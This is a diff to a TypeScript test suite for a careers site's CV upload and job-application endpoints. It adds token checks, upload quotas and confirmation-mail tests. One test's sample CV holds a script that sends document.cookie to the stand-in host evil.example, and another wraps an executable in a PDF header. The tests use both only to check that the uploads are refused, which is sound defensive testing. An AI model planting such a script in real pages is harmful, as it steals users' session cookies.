@@ -4,21 +4,24 @@ import path from "node:path"
 import { base64Size, CV_MAX_BYTES, FUNCTION_REQUEST_LIMIT_BYTES } from "../../src/domain/careers/cv"
 import { jobCountryFor } from "../../src/domain/careers/job-country"
 import { APPLICATION_FILES_STORE } from "../lib/applications/file-store"
-import { fallbackMailId } from "../lib/applications/records"
+import { confirmationMailId, fallbackMailId } from "../lib/applications/records"
+import { UPLOAD_TOKEN_MAX_AGE_MS } from "../lib/applications/upload-token"
+import { MAX_UPLOADS_PER_VISITOR } from "../lib/applications/uploads"
 import { clearMaintenanceLocationCache } from "../lib/forms/maintenance-locations"
 import { Outbox } from "../lib/outbox/outbox"
 import { STORE_NAMES } from "../lib/stores"
 import { startLocalBlobs, type LocalBlobs } from "../test-support/blobs"
 import { docxFile, executableFile, pdfOfSize } from "../test-support/documents"
+import { openedFormToken } from "../test-support/form-start"
 import { postJson, testContext } from "../test-support/requests"
 import { parseEml } from "../test-support/eml"
 import { startStandIn, type StandIn } from "../test-support/stand-in"
-import uploadChunk from "./cv-upload-chunk.mts"
-import uploadComplete from "./cv-upload-complete.mts"
-import uploadStart from "./cv-uploads.mts"
-import outboxRetry from "./outbox-retry.mts"
-import sendApplication from "./send-application.mts"
-import sendMail from "./send-mail.mts"
+import uploadChunk from "../functions/cv-upload-chunk.mts"
+import uploadComplete from "../functions/cv-upload-complete.mts"
+import uploadStart from "../functions/cv-uploads.mts"
+import outboxRetry from "../functions/outbox-retry.mts"
+import sendApplication from "../functions/send-application.mts"
+import sendMail from "../functions/send-mail.mts"
 
 jest.setTimeout(30_000)
 
@@ -72,9 +75,12 @@ async function call(handler: (request: Request, context: never) => Promise<Respo
   return { status: response.status, body: (await response.json()) as Record<string, unknown> }
 }
 
+/** The token of the form page the applicant opened (GET /api/form-start); uploads carry it. */
+const TOKEN = openedFormToken()
+
 /** What the browser does with a chosen file: start, send the chunks, complete. */
-async function uploadFile(name: string, content: Buffer) {
-  const started = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name, size: content.length }))
+async function uploadFile(name: string, content: Buffer, token = TOKEN) {
+  const started = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name, size: content.length }, { "Upload-Token": token }))
   if (started.status !== 201) return started
   const { uploadId, chunkBytes, chunkCount } = started.body as { uploadId: string; chunkBytes: number; chunkCount: number }
   for (let index = 0; index < chunkCount; index++) {
@@ -83,13 +89,16 @@ async function uploadFile(name: string, content: Buffer) {
       uploadChunk,
       new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/chunks/${index}`, {
         method: "PUT",
-        headers: { "Content-Type": "application/octet-stream" },
+        headers: { "Content-Type": "application/octet-stream", "Upload-Token": token },
         body: new Uint8Array(chunk),
       }),
     )
     expect(put).toEqual({ status: 200, body: { received: chunk.length } })
   }
-  return call(uploadComplete, new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/complete`, { method: "POST" }))
+  return call(
+    uploadComplete,
+    new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/complete`, { method: "POST", headers: { "Upload-Token": token } }),
+  )
 }
 
 function envelope(formId: string, locale: string, values: Record<string, unknown>) {
@@ -171,8 +180,21 @@ describe("files that are refused", () => {
     expect(refused).toEqual({ status: 422, body: { error: "content_mismatch", message: "FILE_CONTENT" } })
     const disguisedWord = await uploadFile("cv.docx", executableFile())
     expect(disguisedWord.status).toBe(422)
-    const started = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "setup.exe", size: 1024 }))
+    const started = await call(
+      uploadStart,
+      postJson(`${ORIGIN}/api/cv-uploads`, { name: "setup.exe", size: 1024 }, { "Upload-Token": TOKEN }),
+    )
     expect(started).toEqual({ status: 415, body: { error: "unsupported_file_type", message: "FILE_TYPE" } })
+  })
+
+  it("checks the whole file: a PDF header followed by a program, and an HTML CV with a script, are refused (issue 19, point 12)", async () => {
+    const disguised = Buffer.concat([Buffer.from("%PDF-1.7\n", "latin1"), executableFile(), Buffer.from("\n%%EOF\n", "latin1")])
+    expect(await uploadFile("cv.pdf", disguised)).toEqual({ status: 422, body: { error: "content_mismatch", message: "FILE_CONTENT" } })
+    const scripted = Buffer.from('<html><body><h1>CV</h1><script>location="https://evil.example/?"+document.cookie</script></body></html>')
+    expect(await uploadFile("cv.html", scripted)).toEqual({
+      status: 422,
+      body: { error: "content_mismatch", message: "FILE_ACTIVE_CONTENT" },
+    })
   })
 
   it("answers malformed requests with a 4xx", async () => {
@@ -180,7 +202,7 @@ describe("files that are refused", () => {
       uploadChunk,
       new Request(`${ORIGIN}/api/cv-uploads/6b1f4f4e-7d1c-4b0e-9a53-2f1c9d0e8a77/chunks/0`, {
         method: "PUT",
-        headers: { "Content-Type": "application/octet-stream" },
+        headers: { "Content-Type": "application/octet-stream", "Upload-Token": TOKEN },
         body: "x",
       }),
     )
@@ -191,6 +213,47 @@ describe("files that are refused", () => {
     expect(unknownForm.status).toBe(400)
     const mail = await call(sendMail, postJson(`${ORIGIN}/api/send-mail`, { applicationId: KEY, to: "attacker@example.com" }))
     expect(mail).toEqual({ status: 400, body: { error: "unknown_fields", fields: ["to"] } })
+  })
+})
+
+describe("uploads belong to an application in progress (issue 19, point 5)", () => {
+  it("refuses an upload without the form page's token, with a forged one, or with one too old for uploads", async () => {
+    const start = (headers: Record<string, string>) =>
+      call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.pdf", size: 5_000_000 }, headers))
+    expect(await start({})).toEqual({ status: 403, body: { error: "upload_token_missing", message: "FILE_NOT_UPLOADED" } })
+    expect((await start({ "Upload-Token": `${TOKEN.slice(0, -4)}AAAA` })).body).toMatchObject({ error: "upload_token_invalid" })
+    const old = openedFormToken(UPLOAD_TOKEN_MAX_AGE_MS + 60_000)
+    expect((await start({ "Upload-Token": old })).body).toMatchObject({ error: "upload_token_expired" })
+    await expect(blobs.store(APPLICATION_FILES_STORE).keys("uploads/")).resolves.toEqual([])
+  })
+
+  it("stops one visitor storing 5 MB files over and over: the files of an application, twice over", async () => {
+    const big = pdfOfSize(CV_MAX_BYTES)
+    const answers = []
+    for (let index = 0; index <= MAX_UPLOADS_PER_VISITOR; index++) {
+      answers.push(
+        (await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.pdf", size: big.length }, { "Upload-Token": TOKEN })))
+          .status,
+      )
+    }
+    expect(answers).toEqual([...Array(MAX_UPLOADS_PER_VISITOR).fill(201), 429])
+    const refused = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.pdf", size: 10 }, { "Upload-Token": TOKEN }))
+    expect(refused).toEqual({ status: 429, body: { error: "upload_quota_exceeded", message: "FILE_QUOTA" } })
+  })
+
+  it("lets no other visitor add to or complete someone's upload", async () => {
+    const started = await call(uploadStart, postJson(`${ORIGIN}/api/cv-uploads`, { name: "cv.txt", size: 5 }, { "Upload-Token": TOKEN }))
+    const uploadId = String(started.body.uploadId)
+    const other = openedFormToken()
+    const chunk = await call(
+      uploadChunk,
+      new Request(`${ORIGIN}/api/cv-uploads/${uploadId}/chunks/0`, {
+        method: "PUT",
+        headers: { "Content-Type": "application/octet-stream", "Upload-Token": other },
+        body: "hello",
+      }),
+    )
+    expect(chunk).toEqual({ status: 404, body: { error: "unknown_upload" } })
   })
 })
 
@@ -217,9 +280,10 @@ describe("when the recruiting system fails", () => {
 
     const mailed = await call(sendMail, postJson(`${ORIGIN}/api/send-mail`, { applicationId: KEY }))
     expect(mailed).toEqual({ status: 200, body: { status: "sent" } })
-    const [file] = await readdir(path.join(sinkDirectory, "mail"))
-    const mail = parseEml(await readFile(path.join(sinkDirectory, "mail", file), "utf8"))
+    const mail = parseEml(await readFile(path.join(sinkDirectory, "mail", `${fallbackMailId(KEY)}.eml`), "utf8"))
     expect(mail.headers.to).toBe("recruitment@fleetlane.example")
+    // A recruiter's answer goes to the applicant (issue 19, point 18).
+    expect(mail.headers["reply-to"]).toBe("anne@example.nl")
     expect(mail.headers.from).toBe("Fleetlane careers <careers-noreply@fleetlane.example>")
     expect(mail.headers.subject).toBe("Job application not delivered to the recruiting system (6b1f4f4e)")
     expect(mail.text).toContain("First name: Anne-Marie")
@@ -297,6 +361,60 @@ describe("the application endpoint", () => {
     })
     const unknownFile = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, vacancyApplication(KEY, "cv.pdf", 1000)))
     expect(unknownFile).toEqual({ status: 400, body: { error: "invalid_fields", fields: { fileList: "FILE_NOT_UPLOADED" } } })
+  })
+
+  it("sends a file attached twice once (issue 19, point 15)", async () => {
+    const pdf = pdfOfSize(4000)
+    const uploaded = await uploadFile("cv.pdf", pdf)
+    recruiting.respond("/ccx/", { status: 200, body: "<env:Envelope/>" })
+    const fileId = String(uploaded.body.fileId)
+    const twice = envelope("job_application_vacancy", "nl", {
+      ...person,
+      jobRequisitionId: "JR-10262",
+      fileList: [
+        { fileId, name: "cv.pdf", size: pdf.length },
+        { fileId, name: "cv.pdf", size: pdf.length },
+      ],
+    })
+    const sent = await call(sendApplication, postJson(`${ORIGIN}/api/send-application`, twice, { "Idempotency-Key": KEY }))
+    expect(sent.status).toBe(200)
+    expect(recruiting.requests[0].body.match(/<wd:File>/g)).toHaveLength(1)
+    const stored = await outbox().get(KEY)
+    expect(stored?.upstream).toMatchObject({ application: { files: [{ fileId }] } })
+    expect((stored?.upstream as { application: { files: unknown[] } }).application.files).toHaveLength(1)
+  })
+
+  it("sends the applicant a confirmation in the page's language once the application is stored, once (issue 19, point 18)", async () => {
+    delete process.env.RECRUITING_SOAP_URL
+    const uploaded = await uploadFile("cv.pdf", pdfOfSize(5000))
+    const request = () =>
+      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId), "cv.pdf", 5000), {
+        "Idempotency-Key": KEY,
+      })
+    expect((await call(sendApplication, request())).status).toBe(200)
+    expect((await call(sendApplication, request())).status).toBe(200)
+    expect(await readdir(path.join(sinkDirectory, "mail"))).toEqual([`${confirmationMailId(KEY)}.eml`])
+    const mail = parseEml(await readFile(path.join(sinkDirectory, "mail", `${confirmationMailId(KEY)}.eml`), "utf8"))
+    expect(mail.headers.to).toBe("anne@example.nl")
+    expect(mail.headers.from).toBe("Fleetlane careers <careers-noreply@fleetlane.example>")
+    expect(mail.headers.subject).toBe("We hebben je sollicitatie ontvangen")
+    expect(mail.text).toContain("Beste Anne-Marie,")
+    expect(mail.text).toContain("Je referentie: 6b1f4f4e")
+    expect(mail.text).toContain("Ontvangen documenten: 1")
+    expect(mail.attachments).toEqual([])
+  })
+
+  it("confirms to the applicant even when the recruiting system is down: the application is stored", async () => {
+    const uploaded = await uploadFile("cv.pdf", pdfOfSize(5000))
+    recruiting.respond("/ccx/", { status: 503, body: "<faultstring>Maintenance window</faultstring>" })
+    const sent = await call(
+      sendApplication,
+      postJson(`${ORIGIN}/api/send-application`, vacancyApplication(String(uploaded.body.fileId), "cv.pdf", 5000), {
+        "Idempotency-Key": KEY,
+      }),
+    )
+    expect(sent.status).toBe(202)
+    await expect(outbox().get(confirmationMailId(KEY))).resolves.toMatchObject({ status: "delivered", deliveredTo: "local-sink" })
   })
 
   it("goes to the local sink without a recruiting system configured", async () => {
